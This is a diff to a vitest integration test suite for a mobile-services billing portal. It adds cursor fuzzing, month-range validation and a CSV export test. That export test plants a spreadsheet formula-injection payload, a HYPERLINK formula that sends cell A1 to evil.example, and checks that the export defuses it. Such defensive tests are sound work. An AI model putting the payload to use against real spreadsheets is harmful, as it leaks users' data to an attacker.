@@ -1,7 +1,9 @@
+import fc from 'fast-check';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { changeLines, parseBillDate, totalCents } from '../../server/src/modules/billing/domain/pro-rata.js';
 import { brusselsDay } from '../../server/src/platform/calendar.js';
 import { createTestPortal, type Client, type TestPortal } from '../support/harness.js';
+import { waitUntil } from '../support/wait.js';
 
 // Manage services (seed manage-mobile-services-*.txt): change with its billing impact, delete within
 // the 30 % rule, the overview with its export, the next bill — and none of it across companies.
@@ -142,10 +144,7 @@ describe(`managing services (${process.env.TEST_DB})`, () => {
       // the quarantined number is not offered to the wizard
       expect((await acme.get('/api/wizard/stock')).body.freeMobileNumbers).not.toContain(line.msisdn);
       // the SIM leaves the network in the background, once
-      const deadline = Date.now() + 20_000;
-      while (Date.now() < deadline && !(await q(`select 1 from service_events where service_id = $1 and event = 'released_on_network'`, [line.id])).length) {
-        await new Promise((r) => setTimeout(r, 200));
-      }
+      await waitUntil('the SIM released on the network', async () => (await q(`select 1 from service_events where service_id = $1 and event = 'released_on_network'`, [line.id])).length);
       expect(await q(`select event from service_events where service_id = $1 and event = 'released_on_network'`, [line.id])).toHaveLength(1);
       // deleting again is not possible: it is no longer active
       expect((await acme.post(`/api/services/${line.id}/delete`)).status).toBe(409);
@@ -245,6 +244,29 @@ describe(`managing services (${process.env.TEST_DB})`, () => {
       expect(status.body.errors[0].field).toMatch(/^status/);
     });
 
+    it('answers a forged cursor (well-formed, keys the database cannot read) with a 400 naming the field, never a 500', async () => {
+      const forge = (sort: string, order: string, key: unknown[]) => Buffer.from(JSON.stringify({ s: sort, o: order, k: key })).toString('base64url');
+      // the fuzzer's find: a name sort with a user id that is not an id
+      const reported = await acme.get(`/api/service-overview?sort=user&order=asc&after=${forge('user', 'asc', ['a', 'b', 'not-a-uuid', 'x'])}`);
+      expect(reported.status).toBe(400);
+      expect(reported.body.errors[0].field).toBe('after');
+      const part = fc.oneof(
+        fc.string(),
+        fc.uuid(),
+        fc.stringMatching(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}(\.\d{1,7})?[+-]\d{2}(:\d{2})?$/),
+        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
+        fc.constantFrom('-infinity', 'infinity', '0000-01-01 00:00:00+00', '2026-02-29 12:00:00+00', '2026-01-01 24:00:00+00', '2026-05-04 10:00:00.5+02'),
+      );
+      await fc.assert(
+        fc.asyncProperty(fc.constantFrom('user', 'number', 'activated'), fc.constantFrom('asc', 'desc'), fc.constantFrom('after', 'before'), fc.array(part, { minLength: 2, maxLength: 4 }), async (sort, order, direction, key) => {
+          const res = await acme.get(`/api/service-overview?sort=${sort}&order=${order}&${direction}=${forge(sort, order, key)}`);
+          expect([200, 400], `${sort} ${JSON.stringify(key)}: ${JSON.stringify(res.body)}`).toContain(res.status);
+          if (res.status === 400) expect(res.body.errors[0].field).toBe(direction);
+        }),
+        { numRuns: 150 },
+      );
+    });
+
     it('sums the dashboard up', async () => {
       const s = (await acme.get('/api/service-overview/summary')).body;
       expect(s.total).toBe((await acme.get('/api/service-overview/count')).body.total);
@@ -272,6 +294,23 @@ describe(`managing services (${process.env.TEST_DB})`, () => {
     });
   });
 
+  describe('CSV export of what users typed', () => {
+    it('writes a name or department that starts like a formula as text a spreadsheet will not run', async () => {
+      const line = await activeLine();
+      const evil = { firstName: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")', lastName: '+Formula-Test', department: '@SUM(1+1)' };
+      expect((await acme.patch(`/api/mobile-users/${line.mobile_user_id}`, evil)).status).toBe(200);
+      const res = await acme.request('GET', `/api/service-overview/export.csv?q=${encodeURIComponent('Formula-Test')}`);
+      expect(res.status).toBe(200);
+      const [header, row, ...rest] = String(res.body).slice(1).trim().split('\n');
+      expect(header).toMatch(/^User,Department,/);
+      expect(rest).toEqual([]);
+      // quoted (the cell holds quotes), after an apostrophe that makes the spreadsheet show the text
+      expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""Open""\) \+Formula-Test",'@SUM\(1\+1\),/);
+      // the number itself stays a number: +32… is no formula
+      expect(row).toContain(`,${line.msisdn},`);
+    });
+  });
+
   describe('next bill', () => {
     it('lists recurring charges of lines active when the month began and every changed-service line, with totals that add up', async () => {
       const bill = (await acme.get('/api/billing/next-bill')).body;
@@ -291,6 +330,17 @@ describe(`managing services (${process.env.TEST_DB})`, () => {
       expect((await acme.get('/api/billing/next-bill?month=2026-13')).status).toBe(400);
       // a month before any line was active has nothing to bill
       expect((await acme.get('/api/billing/next-bill?month=2024-01')).body.totalCents).toBe(0);
+    });
+
+    it('refuses months outside 2000-01…2999-12 with a 400 naming the month (year 0000 made the database fail)', async () => {
+      for (const month of ['0000-01', '0099-12', '1999-12', '3000-01', '9999-12']) {
+        const res = await acme.get(`/api/billing/next-bill?month=${month}`);
+        expect(res.status, month).toBe(400);
+        expect(res.body.errors).toEqual([{ field: 'month', rule: 'month_range', message: 'Month must be a month from 2000-01 to 2999-12.' }]);
+      }
+      // Brightwave's administrator reads French
+      expect((await bright.get('/api/billing/next-bill?month=0000-01')).body.errors[0].message).toBe('Mois doit être un mois de 2000-01 à 2999-12.');
+      for (const month of ['2000-01', '2999-12']) expect((await acme.get(`/api/billing/next-bill?month=${month}`)).status, month).toBe(200);
     });
   });
 
